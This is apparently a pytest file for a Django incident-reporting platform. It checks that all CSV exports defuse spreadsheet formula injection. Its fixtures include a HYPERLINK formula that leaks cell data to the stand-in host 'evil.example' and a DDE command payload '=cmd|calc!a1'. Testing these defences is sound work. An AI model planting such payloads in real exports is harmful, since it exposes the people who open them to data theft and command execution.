"""The one CSV writer, and every CSV the platform hands out going through it."""

import csv
import io
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any
from uuid import uuid4

import pytest
from django.test import Client
from django.utils import timezone

from bulwark.conftest import bearer, sign_in
from bulwark.constituency import services
from bulwark.constituency.models import Organisation, Sector
from bulwark.constituency.tests.factories import OrganisationFactory, UserFactory
from bulwark.core import csvexport

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MAIL_FORMULA = "=cmd|calc!a1"


@pytest.mark.parametrize(
    "text",
    [
        "=1+2",
        "+1+2",
        "-1+2",
        "@SUM(A1)",
        "\t=1+2",
        "\r=1+2",
        # Excel also runs the full-width forms
        "\uff1d1+2",
        "\uff0b1+2",
        "\uff0d1+2",
        "\uff20SUM(A1)",
    ],
)
def test_formula_starts_are_defused(text: str) -> None:
    assert csvexport.cell(text) == "'" + text
    assert csvexport.cell(text, for_machines=True) == "'" + text


def test_ordinary_values_are_left_alone() -> None:
    assert csvexport.cell("Ransomware at 資安署") == "Ransomware at 資安署"
    assert csvexport.cell("a=b") == "a=b"
    assert csvexport.cell(-3) == "-3" and csvexport.cell(-2.5) == "-2.5"
    assert csvexport.cell(None) == ""


def test_files_for_people_open_in_excel_with_chinese_and_local_times(settings: Any) -> None:
    settings.TIME_ZONE = "Asia/Taipei"
    at = datetime(2026, 3, 1, 1, 2, 3, 456789, tzinfo=UTC)
    text = csvexport.text(["名稱", "Reported at"], [["資安事件", at]])
    assert text.startswith("\ufeff名稱,Reported at\r\n")
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert "資安事件,2026-03-01 09:02:03 Asia/Taipei\r\n" in text  # no microseconds


def test_files_for_machines_have_no_bom_and_utc_times() -> None:
    at = datetime(2026, 3, 1, 1, 2, 3, 456789, tzinfo=UTC)
    text = csvexport.text(["type", "at"], [["=x", at]], for_machines=True)
    assert text == "type,at\n'=x,2026-03-01T01:02:03+00:00\n"
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["type", "at"], ["'=x", "2026-03-01T01:02:03+00:00"]]


# --- Every CSV export of the platform, fed a formula -------------------------------------
def _world(db: Any) -> SimpleNamespace:
    from bulwark.incidents.levels import Answers
    from bulwark.incidents.services import report_incident

    cert = OrganisationFactory(name="National CERT", kind="national_cert")
    sector = Sector.objects.create(name=FORMULA)
    agency = Organisation.objects.create(
        name=FORMULA, short_name="EVIL", kind="government_agency", country="TW", sector=sector
    )
    duty = UserFactory(username="duty")
    services.add_membership(None, duty, cert, "duty_officer")
    report_incident(
        duty, agency, title=FORMULA, description="d", rsit_class="other", rsit_type="other",
        answers=Answers(), aware_at=timezone.now() - timedelta(minutes=5),
    )  # fmt: skip
    return SimpleNamespace(cert=cert, agency=agency, duty=duty)


def _incidents_web(world: SimpleNamespace) -> bytes:
    response = sign_in(Client(), world.duty).get("/incidents/?format=csv")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _stats_api(world: SimpleNamespace) -> bytes:
    year = timezone.now().year
    response = Client().get(
        f"/api/v1/stats/incidents_by_sector/?period={year}&format=csv",
        **bearer(world.duty, ["stats:read"]),
    )
    assert response.status_code == 200
    return response.content


def _intel_export(world: SimpleNamespace) -> bytes:
    from bulwark.intel import services as intel_services
    from bulwark.intel.models import Collection
    from bulwark.intel.tests.conftest import indicator

    collection = Collection.objects.create(title="Feed", alias="feed")
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    # An e-mail address may begin with "=" (RFC 5322 allows it in the local part); the
    # formula above is no address, so intel would refuse it before any export.
    objs = [indicator(f"{MAIL_FORMULA}@evil.example", path="email-addr:value", valid_from=now)]
    intel_services.ingest_objects(world.duty, collection, objs, raw="")
    response = Client().get("/intel/exports/csv/", **bearer(world.duty, ["intel:read"]))
    assert response.status_code == 200
    return response.content


def _exchange_attachment(world: SimpleNamespace) -> bytes:
    from bulwark.exchange import notify

    event = SimpleNamespace(
        fields={"source.ip": "192.0.2.1", "feed.name": FORMULA, "malware.name": "-x"},
        event_id=uuid4(),
    )
    return notify._csv([event]).encode()  # type: ignore[list-item]


@pytest.mark.parametrize(
    "export", [_incidents_web, _stats_api, _intel_export, _exchange_attachment]
)
def test_every_csv_export_defuses_formulas(db: Any, export: Any) -> None:
    world = _world(db)
    table = list(csv.reader(io.StringIO(export(world).decode("utf-8-sig"))))
    cells = [c for row in table for c in row]
    assert any(c.startswith("'" + FORMULA) or c.startswith("'" + MAIL_FORMULA) for c in cells), (
        table
    )
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], table
